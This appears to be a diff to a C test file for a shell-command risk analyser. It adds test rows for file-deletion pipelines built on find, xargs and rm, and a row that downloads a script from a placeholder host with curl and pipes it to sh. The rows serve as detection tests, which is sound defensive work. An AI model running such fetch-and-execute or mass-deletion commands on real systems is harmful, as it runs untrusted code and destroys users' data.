@@ -95,6 +95,9 @@ static void fed_by_xargs(void)
 		ROW("find /a -print0 | while read -r -d '' f; do rm \"$f\"; done", "/a"),
 		ROW("for f in $(find /a /b -maxdepth 1); do rm $f; done", "/b; /a"),
 		ROW("while read x; do rm $x; done < <(find /a -mindepth 1)", "/a/*"),
+		ROW("echo '/a;/b' | tr ';' '\0' | xargs -0 rm; find /a | tail -n +2 | xargs rm",
+			"/a,/b; /a"),
+		ROW("readarray -d '' a < <(find /a /b -print0); rm \"${a[@]}\"", "/a,/b"),
 	};
 	CHECK_ALL(rows, FACT_DELETES);
 }
@@ -349,6 +352,7 @@ static void downloads(void)
 		    "./k",
 			""),
 		ROW("curl -o i http://localhost:3/i; sh < i", "unread-script"),
+		ROW("curl -o i https://x.example/i; (cat i; echo) | sh", "fetched-script"),
 	};
 	CHECK_ALL(rows, FACT_DOUBT);
 }
